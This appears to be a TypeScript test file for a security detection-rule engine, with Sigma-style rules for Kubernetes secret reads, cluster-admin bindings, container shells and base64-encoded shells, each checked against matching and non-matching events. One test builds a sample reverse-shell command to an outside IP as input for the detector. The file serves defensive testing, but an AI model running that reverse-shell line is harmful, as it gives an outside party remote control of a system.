/**
 * Rules as a SOC writes them, across the three default sources (Kubernetes audit, Falco, container logs), each
 * with events that should and should not fire. Written for these tests; not copied from any rule repository.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { compileRules, loadRules } from '../src/index.js';

const SECRETS_BY_SA = `title: Secrets read by a service account
logsource: {product: kubernetes, service: audit}
detection:
  selection:
    verb: [get, list, watch]
    objectRef.resource: secrets
    user.username|startswith: 'system:serviceaccount:'
  allowed:
    user.username:
      - 'system:serviceaccount:kube-system:*'
  condition: selection and not allowed
level: medium
tags: [attack.credential_access, attack.t1552.007]
`;

const CLUSTER_ADMIN = `title: Binding to cluster-admin
logsource: {category: application, product: kubernetes, service: audit}
detection:
  binding:
    verb: [create, update, patch]
    objectRef.resource: [clusterrolebindings, rolebindings]
  admin:
    requestObject.roleRef.name: cluster-admin
  condition: all of them
level: high
`;

const FALCO_SHELL = `title: Terminal shell in a container
logsource: {product: falco}
detection:
  shell:
    falco.output_fields.proc.name: [sh, bash, zsh, ash]
    falco.output_fields.proc.tty|neq: 0
  in_container:
    container.id|exists: true
  condition: shell and in_container
level: high
`;

const BASE64_SHELL = `title: Decoded base64 shell in a container log
logsource: {product: container}
detection:
  decode:
    - 'base64 -d'
    - 'base64 --decode'
  payload:
    message|base64offset|contains:
      - '/bin/sh'
      - '/bin/bash'
  condition: decode or payload
level: high
`;

const set = compileRules(
  loadRules([
    { file: 'secrets.yml', source: SECRETS_BY_SA },
    { file: 'admin.yml', source: CLUSTER_ADMIN },
    { file: 'shell.yml', source: FALCO_SHELL },
    { file: 'b64.yml', source: BASE64_SHELL },
  ]),
);

const audit = (a: Record<string, unknown>) => ({ event: { id: 'a', dataset: 'kubernetes.audit' }, kubernetes: { audit: a } });
const fired = (event: unknown) => set.match(event).map((m) => m.rule.title);

describe('scenarios', () => {
  it('secrets read by a service account, but not by kube-system controllers', () => {
    const read = { verb: 'list', objectRef: { resource: 'secrets', namespace: 'payments' } };
    assert.deepEqual(fired(audit({ ...read, user: { username: 'system:serviceaccount:payments:api' } })), [
      'Secrets read by a service account',
    ]);
    assert.deepEqual(fired(audit({ ...read, user: { username: 'system:serviceaccount:kube-system:gc' } })), []);
    assert.deepEqual(fired(audit({ ...read, user: { username: 'alice@example.com' } })), []);
  });

  it('a binding to cluster-admin, not to view', () => {
    const bind = (role: string) =>
      audit({ verb: 'create', objectRef: { resource: 'clusterrolebindings' }, requestObject: { roleRef: { kind: 'ClusterRole', name: role } } });
    assert.deepEqual(fired(bind('cluster-admin')), ['Binding to cluster-admin']);
    assert.deepEqual(fired(bind('view')), []);
  });

  it('an interactive shell in a container, not a shell script without a tty or on the host', () => {
    const falco = (fields: Record<string, unknown>, container?: string) => ({
      event: { id: 'f', dataset: 'falco.alerts' },
      ...(container ? { container: { id: container } } : {}),
      falco: { output_fields: fields },
    });
    assert.deepEqual(fired(falco({ 'proc.name': 'bash', 'proc.tty': 34816 }, 'abc123')), ['Terminal shell in a container']);
    assert.deepEqual(fired(falco({ 'proc.name': 'bash', 'proc.tty': 0 }, 'abc123')), []);
    assert.deepEqual(fired(falco({ 'proc.name': 'bash', 'proc.tty': 34816 })), []);
  });

  it('base64 shells in container logs, found at any offset of the encoding', () => {
    const log = (message: string) => ({ event: { id: 'l', dataset: 'kubernetes.container_logs' }, message });
    const encoded = Buffer.from('exec /bin/bash -i >& /dev/tcp/203.0.113.9/443 0>&1').toString('base64');
    assert.deepEqual(fired(log(`payload=${encoded}`)), ['Decoded base64 shell in a container log']);
    assert.deepEqual(fired(log('echo aGVsbG8= | base64 -d')), ['Decoded base64 shell in a container log']);
    assert.deepEqual(fired(log(`payload=${Buffer.from('exec /usr/bin/python').toString('base64')}`)), []);
  });
});
